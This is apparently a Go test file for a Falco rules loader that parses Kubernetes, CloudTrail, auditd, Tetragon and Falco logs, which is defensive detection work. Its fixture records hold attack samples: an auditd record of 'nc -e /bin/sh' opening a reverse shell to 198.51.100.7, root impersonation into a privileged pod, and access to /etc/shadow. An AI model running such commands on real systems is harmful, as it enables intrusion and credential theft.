package falco

import (
	"bytes"
	"strings"
	"testing"
	"testing/fstest"

	"amber/timeline"
	"amber/timeline/detect"
	"amber/timeline/detect/fields"
	"amber/timeline/source/auditd"
	"amber/timeline/source/cloudtrail"
	"amber/timeline/source/falco"
	"amber/timeline/source/kubeaudit"
	"amber/timeline/source/tetragon"
)

// load reads rules written in a test.
func load(t testing.TB, text string) detect.Rules {
	t.Helper()
	return Load(fstest.MapFS{"rules.yaml": {Data: []byte(text)}})
}

// only is the one Matcher of rules without faults; what is doubtful is let pass.
func only(t testing.TB, text string) detect.Matcher {
	t.Helper()
	r := load(t, text)
	for _, p := range r.Problems {
		if p.Severity != detect.Doubtful {
			t.Fatalf("%+v", p)
		}
	}
	if len(r.Matchers) != 1 {
		t.Fatalf("%d matchers, want one; %+v", len(r.Matchers), r.Problems)
	}
	return r.Matchers[0]
}

// ruleOf is a rule with a condition, and what else is needed around it.
func ruleOf(source, condition string) string {
	return "- rule: it\n  desc: d\n  condition: >\n    " + strings.ReplaceAll(condition, "\n", "\n    ") +
		"\n  output: o\n  priority: WARNING\n  source: " + source + "\n"
}

// events calls f with every event of a log.
func events(t testing.TB, src timeline.Source, log string, f func(*fields.View)) {
	t.Helper()
	n := 0
	err := fields.Read(src, strings.NewReader(log), func(v *fields.View) { n++; f(v) })
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 {
		t.Fatalf("no event in %.200q", log)
	}
}

// sources are the logs that a test's records are of, by Falco's source.
func matches(t testing.TB, m detect.Matcher, src timeline.Source, log string) bool {
	t.Helper()
	hit := false
	events(t, src, log, func(v *fields.View) { hit = hit || m.Match(v) })
	return hit
}

func outputOf(t testing.TB, m detect.Matcher, src timeline.Source, log string) (out string) {
	t.Helper()
	events(t, src, log, func(v *fields.View) { out = m.Output(v) })
	return out
}

// The records of the tests.
const (
	podRecord = `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"a1","stage":"ResponseComplete",` +
		`"requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&container=app&stdin=true","verb":"create",` +
		`"user":{"username":"mallory","uid":"u1","groups":["dev","system:authenticated"]},"impersonatedUser":{"username":"root"},` +
		`"sourceIPs":["203.0.113.7"],"userAgent":"kubectl/v1.36","objectRef":{"resource":"pods","namespace":"shop","name":"web","subresource":"exec"},` +
		`"responseStatus":{"code":201,"reason":"Created"},` +
		`"requestObject":{"metadata":{"name":"web"},"subjects":[{"kind":"User","name":"mallory"}],"roleRef":{"name":"cluster-admin"},` +
		`"data":{"password":"x"},"rules":[{"apiGroups":[""],"verbs":["get","*"],"resources":["pods","pods/exec"]},{"verbs":["list"],"nonResourceURLs":["/metrics"]}],` +
		`"spec":{"type":"NodePort","hostNetwork":true,"hostPID":false,"hostIPC":true,"ports":[{"port":80}],` +
		`"securityContext":{"runAsUser":1000,"runAsGroup":2000,"fsGroup":3000,"supplementalGroups":[1,2]},` +
		`"volumes":[{"name":"h","hostPath":{"path":"/etc"}},{"name":"f","flexVolume":{"driver":"d/x"}},{"name":"e","emptyDir":{}}],` +
		`"containers":[{"name":"app","image":"docker.io/shop/web:1.2@sha256:ab","ports":[{"hostPort":8080},{"containerPort":9090}],` +
		`"securityContext":{"privileged":true,"allowPrivilegeEscalation":false,"readOnlyRootFilesystem":true,"runAsUser":0,"runAsGroup":7,"procMount":"Unmasked","capabilities":{"add":["SYS_ADMIN","NET_RAW"]}}},` +
		`{"name":"side","image":"quay.io/side"}]}},"responseObject":{"metadata":{"name":"web-1"}},` +
		`"requestReceivedTimestamp":"2026-11-22T03:00:00.000000Z","stageTimestamp":"2026-11-22T03:00:00.100000Z",` +
		`"annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: ok"}}` + "\n"

	trailRecord = `{"Records":[{"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","principalId":"AROA:s","arn":"arn:aws:sts::111122223333:assumed-role/web/s","accountId":"111122223333",` +
		`"sessionContext":{"sessionIssuer":{"type":"Role","userName":"web"}}},"eventTime":"2026-11-22T03:00:00Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"eu-west-1",` +
		`"sourceIPAddress":"203.0.113.7","userAgent":"aws-cli/2","requestParameters":{"bucketName":"b","key":"k/1","Host":"b.s3","name":"n","tagSpecificationSet":{"items":[{"resourceType":"instance","tags":[{"key":"Name","value":"miner"}]}]}},` +
		`"responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"bytesTransferredIn":0,"bytesTransferredOut":33.0,"MFAUsed":"No"},` +
		`"requestID":"r","eventID":"e-1","eventType":"AwsApiCall","managementEvent":false,"recipientAccountId":"111122223333"}]}`

	auditExec = `type=SYSCALL msg=audit(1700000000.100:1001): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=66 a2=77 a3=8 items=1 ppid=800 pid=810 auid=1000 uid=33 gid=33 euid=0 suid=0 fsuid=0 egid=33 sgid=33 fsgid=33 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc" key="x"
type=EXECVE msg=audit(1700000000.100:1001): argc=4 a0="/usr/bin/nc" a1="-e" a2="/bin/sh" a3="198.51.100.7"
type=CWD msg=audit(1700000000.100:1001): cwd="/dev/shm"
type=PATH msg=audit(1700000000.100:1001): item=0 name="/usr/bin/nc" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
`
	auditOpen = `type=SYSCALL msg=audit(1700000001.100:1002): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffc a2=241 a3=1b6 items=1 ppid=800 pid=811 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="x"
type=CWD msg=audit(1700000001.100:1002): cwd="/root"
type=PATH msg=audit(1700000001.100:1002): item=0 name="/var/log/auth.log" inode=1 dev=fd:00 mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
`
	auditConnect = `type=SYSCALL msg=audit(1700000002.100:1003): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffc a2=10 a3=0 items=0 ppid=810 pid=812 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="net"
type=SOCKADDR msg=audit(1700000002.100:1003): saddr=02000050C63364070000000000000000
`
	auditRename = `type=SYSCALL msg=audit(1700000003.100:1004): arch=c000003e syscall=82 success=yes exit=0 a0=7f a1=7e a2=0 a3=0 items=4 ppid=1 pid=813 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="mv" exe="/usr/bin/mv"
type=CWD msg=audit(1700000003.100:1004): cwd="/tmp"
type=PATH msg=audit(1700000003.100:1004): item=0 name="/tmp/" inode=1 dev=fd:00 mode=041777 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
type=PATH msg=audit(1700000003.100:1004): item=1 name="/usr/bin/" inode=2 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
type=PATH msg=audit(1700000003.100:1004): item=2 name="../tmp/x" inode=3 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=DELETE
type=PATH msg=audit(1700000003.100:1004): item=3 name="/usr/bin/../bin/ls" inode=3 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
`
	auditChmod = `type=SYSCALL msg=audit(1700000004.100:1005): arch=c000003e syscall=268 success=no exit=-1 a0=ffffff9c a1=7e a2=9ed a3=0 items=1 ppid=1 pid=814 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=pts0 ses=3 comm="chmod" exe="/usr/bin/chmod"
type=CWD msg=audit(1700000004.100:1005): cwd="/tmp"
type=PATH msg=audit(1700000004.100:1005): item=0 name="x" inode=3 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
`
	auditPtrace = `type=SYSCALL msg=audit(1700000005.100:1006): arch=c000003e syscall=101 success=yes exit=0 a0=10 a1=1 a2=0 a3=0 items=0 ppid=1 pid=815 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="gdb" exe="/usr/bin/gdb"` + "\x1d" + `AUID="bob" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"
`
	auditSocket = `type=SYSCALL msg=audit(1700000006.100:1007): arch=c000003e syscall=41 success=yes exit=3 a0=11 a1=3 a2=300 a3=0 items=0 ppid=1 pid=816 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="tcpdump" exe="/usr/bin/tcpdump"
`
	tetragonExec = `{"process_exec":{"process":{"exec_id":"ZXhlYzE=","pid":4242,"uid":33,"cwd":"/srv","binary":"/bin/sh","arguments":"-c id","flags":"execve clone","start_time":"2026-11-22T03:00:00.500Z",` +
		`"auid":1000,"pod":{"namespace":"shop","name":"web-0","uid":"3f2a","container":{"id":"containerd://abababababababababababababababababababababababababababababababab","name":"web","image":{"id":"registry.example/web@sha256:cdcd","name":"registry.example:5000/web:1"},"pid":7,"security_context":{"privileged":true}}},` +
		`"parent_exec_id":"cGFyZW50","cap":{"effective":["CAP_SYS_ADMIN"]},"environment_variables":[{"key":"A","value":"b c"},{"key":"D","value":"e"}]},"parent":{"exec_id":"cGFyZW50","pid":4000,"binary":"/usr/sbin/nginx","arguments":"-g daemon"},` +
		`"ancestors":[{"exec_id":"YQ==","binary":"/usr/bin/containerd-shim"},{"exec_id":"Yg==","binary":"/sbin/init"}]},"node_name":"node-1","time":"2026-11-22T03:00:00.500Z"}` + "\n"

	tetragonHost = `{"process_exec":{"process":{"exec_id":"ZXhlYzI=","pid":99,"uid":0,"cwd":"/","binary":"/usr/bin/id","start_time":"2026-11-22T03:00:01Z"}},"node_name":"node-1","time":"2026-11-22T03:00:01Z"}` + "\n"

	alertRecord = `{"hostname":"n1","output":"x","priority":"Warning","rule":"Some","source":"syscall","tags":[],"time":"2026-11-22T03:00:00.000000001Z",` +
		`"output_fields":{"evt.type":"execve","proc.name":"sh","proc.pname":null,"proc.aname[2]":"nginx","proc.cmdline":"sh -c id","user.name":"root","user.uid":0,"container.id":"abababababab","container.image.repository":"shop/web","fd.sip":"198.51.100.7","fd.cip":"10.0.0.5","fd.sport":4444,"proc.tty":34816,"fd.name":"/etc/shadow"}}` + "\n"
)

var logs = []struct {
	falco string
	src   timeline.Source
	log   string
}{
	{"k8s_audit", kubeaudit.Source{}, podRecord},
	{"aws_cloudtrail", cloudtrail.Source{}, trailRecord},
	{"syscall", auditd.Source{}, auditExec + auditOpen + auditConnect + auditRename + auditChmod + auditPtrace + auditSocket},
	{"syscall", tetragon.Source{}, tetragonExec + tetragonHost},
	{"syscall", falco.Source{}, alertRecord},
}

func TestRecords(t *testing.T) {
	want := []int{1, 1, 7, 2, 1}
	for i, l := range logs {
		n := 0
		events(t, l.src, l.log, func(*fields.View) { n++ })
		if n != want[i] {
			t.Errorf("%s gives %d events, want %d", l.src.Name(), n, want[i])
		}
	}
	if !bytes.Contains([]byte(podRecord), []byte("ResponseComplete")) {
		t.Error("the pod's record lost its stage")
	}
}
